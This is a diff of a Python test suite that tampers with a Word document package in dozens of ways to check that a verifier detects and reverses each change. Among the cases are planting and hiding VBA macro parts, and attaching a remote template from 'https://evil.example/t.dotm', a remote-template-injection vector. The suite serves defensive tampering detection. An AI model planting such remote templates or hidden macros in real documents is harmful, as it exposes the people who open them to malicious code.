@@ -160,7 +160,7 @@ def blob_unseen(name: str) -> Saboteur:
 
 
 def move_block(e: Editor) -> None:
-    par(e, "Scope").addprevious(par(e, "Closing") if text_of(e.mirror.body[0]) == "Scope" else par(e, "Listed"))
+    par(e, "Between").addprevious(par(e, "Listed"))
 
 
 def swap_rows(e: Editor) -> None:
@@ -217,17 +217,6 @@ def dangle(e: Editor) -> None:
     first(par(e, "Costs"), W + "hyperlink").set(R + "id", "rId999")
 
 
-def other_prefix(e: Editor) -> None:
-    """The same, in other words: another prefix for the same namespace."""
-    element = par(e, "Listed")
-    ppr = element.find(W_PPR)
-    again = xml('<w:rPr xmlns:zz="urn:unused"/>')
-    ppr.addnext(again)
-    gone(again)
-    again = type(ppr)  # the paragraph is written anew, nothing is different
-    element.set(W + "rsidR", element.get(W + "rsidR", "x"))
-
-
 S: dict[str, tuple[Saboteur, str]] = {
     # text, format, style, attributes beside
     "text beside": (lambda e: e.replace_text(par(e, "Costs"), 0, 5, "Gains"), "Gains"),
@@ -246,7 +235,7 @@ S: dict[str, tuple[Saboteur, str]] = {
     "kept space": (in_par("Costs", W + "t", lambda t: t.attrib.pop(XML + "space")), "space"),
     "an unknown attribute": (lambda e: par(e, "Costs").set("{urn:x}odd", "1"), "odd"),
     "an unknown element": (lambda e: first(par(e, "Costs"), W_R).append(xml('<x:odd xmlns:x="urn:x"/>')), "odd"),
-    "a comment of XML": (lambda e: par(e, "Costs").append(xml("<w:proofErr/>")) or par(e, "Costs").append(xml('<w:customXml w:element="odd"/>')), "customXml"),
+    "a custom tag": (lambda e: par(e, "Costs").append(xml('<w:customXml w:element="odd"/>')), "customXml"),
     "an old format": (lambda e: e.ppr(par(e, "Listed")).append(xml('<w:pPrChange w:id="90" w:author="Eve"><w:pPr/></w:pPrChange>')), "pPrChange"),
     # blocks
     "a block moved": (move_block, "stand|moved|now"),
@@ -279,7 +268,7 @@ S: dict[str, tuple[Saboteur, str]] = {
     "a style gone": (in_part(RT.STYLES, lambda r: r.remove(r.findall(W + "style")[-1])), "style"),
     "the defaults": (in_part(RT.STYLES, lambda r: first(r, W + "sz").set(W_VAL, "48")), "style|default|docDefaults"),
     "track changes": (in_part(RT.SETTINGS, lambda r: r.append(xml("<w:trackRevisions/>"))), "setting|track"),
-    "a compatibility setting": (in_part(RT.SETTINGS, lambda r: r.remove(r[-1])), "setting"),
+    "another setting": (in_part(RT.SETTINGS, lambda r: r.remove(r[-1])), "setting|ImageDpi"),
     # marks
     "a bookmark's start": (lambda e: gone(first(e.mirror.body, W + "bookmarkStart")), "bookmark"),
     "a bookmark's end": (lambda e: gone(first(e.mirror.body, W + "bookmarkEnd")), "bookmark"),
@@ -310,7 +299,7 @@ S: dict[str, tuple[Saboteur, str]] = {
     "when it was inserted": (in_par("Prices", W + "ins", lambda n: n.set(W + "date", "2020-01-01T00:00:00Z")), "date"),
     "a formula": (in_par("The formula", M + "t", lambda n: setattr(n, "text", "x-y")), "formula"),
     "a content control's name": (control_name, "control|Other"),
-    "a content control": (control_off, "control"),
+    "a content control": (control_off, "control|Filled"),
     # drawings
     "a picture": (in_par("Drawn", W + "drawing", gone), "picture"),
     "a picture's size": (in_par("Drawn", WP + "extent", lambda n: n.set("cx", "1")), "size|cm"),
@@ -344,7 +333,7 @@ S: dict[str, tuple[Saboteur, str]] = {
     "the theme's colours": (lambda e: first(named("/word/theme/theme1.xml")(e).element, A + "srgbClr").set("val", "FF0000"), "theme"),
     "the comments": (del_rel(RT.COMMENTS), "comments"),
     "custom XML": (lambda e: named("/customXml/item1.xml")(e).element.set("odd", "1"), "customXml"),
-    "custom XML gone": (del_rel("http://schemas.openxmlformats.org/officeDocument/2006/relationships/customXml"), "customXml"),
+    "custom XML gone": (del_rel(RT.HYPERLINK.replace("hyperlink", "customXml")), "customXml"),
     "a macro": (blob("/word/vbaProject.bin"), "vbaProject"),
     "a macro, behind the hooks": (blob_unseen("/word/vbaProject.bin"), "vbaProject"),
     "a macro gone": (del_rel(VBA), "vbaProject"),
@@ -353,13 +342,13 @@ S: dict[str, tuple[Saboteur, str]] = {
     "the font table": (lambda e: first(named("/word/fontTable.xml")(e).element, W + "font").set(W + "name", "x"), "font"),
     "the author": (lambda e: setattr(e.mirror.document.core_properties, "author", "Eve"), "author|creator|core"),
     "a custom property": (lambda e: setattr(named("/docProps/custom.xml")(e).element[0][0], "text", "x"), "Client|custom"),
-    "the program": (lambda e: setattr(named("/docProps/app.xml")(e).element[0], "text", "x"), "app"),
+    "the program": (lambda e: setattr(named("/docProps/app.xml")(e).element[0], "text", "x"), "app|Template"),
     "a part that nobody named": (add_part("/word/odd.xml", "urn:odd", "application/xml"), "odd"),
     "a chart that nobody named": (add_part("/word/charts/chart9.xml", RT.CHART, "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"), "chart9"),
     "a second macro": (add_part("/word/vbaProject2.bin", VBA, "application/vnd.ms-office.vbaProject"), "vbaProject2"),
-    "a template from afar": (lambda e: e.mirror.file.document_part.relate_to("https://evil.example/t.dotm", RT.ATTACHED_TEMPLATE, is_external=True), "evil"),
+    "a template from afar": (lambda e: e.mirror.file.document_part.relate_to("https://evil.example/t.dotm", RT.HYPERLINK.replace("hyperlink", "attachedTemplate"), is_external=True), "evil"),
     "a content type": (lambda e: setattr(e.mirror.file.document_part, "_content_type", "application/xml"), "content type|kind"),
-    "a part's name": (lambda e: setattr(named("/word/media/image1.png")(e), "partname", PackURI("/word/media/other.png")), "image1|other"),
+    "a part's name": (lambda e: setattr(named("/word/media/image1.png")(e), "partname", PackURI("/word/media/other.png")), "partname"),
     "an attribute of the root": (lambda e: e.mirror.file.document_part.element.set(W + "conformance", "strict"), "attributes"),
     "an extension no longer ignorable": (lambda e: e.mirror.file.document_part.element.set(MC + "Ignorable", ""), "attributes|Ignorable"),
     "the background": (lambda e: e.mirror.file.document_part.element.insert(0, xml('<w:background w:color="FF0000"/>')), "background"),
@@ -404,13 +393,19 @@ def check(base: dict[str, bytes], what: str, how: str, when: str = "after") -> s
             return f"{how}: refused as nothing, left {left}"
         Shared.mirror = mirror
         return None
+    except RuntimeError as refusal:  # what no delta could take back is not let through at all
+        left = different(canonical(mirror), base)
+        if left or not re.search(words, str(refusal)):
+            return f"{how}: left {left}, says {refusal}"
+        Shared.mirror = mirror
+        return None
     if verdict.aligned:
         return f"{how}: nobody noticed"
     mirror.apply(execution.delta.inverse())
     left = different(canonical(mirror), base)
     if left:
         return f"{how}: not taken back: {sorted(left)}"
-    if verdict.source is not VerdictSource.EFFECT and not re.search(words, verdict.explanation, re.IGNORECASE):
+    if verdict.source not in (VerdictSource.EFFECT, VerdictSource.STATE) and not re.search(words, verdict.explanation, re.IGNORECASE):
         return f"{how}: says only '{verdict.explanation}'"
     Shared.mirror = mirror
     return None
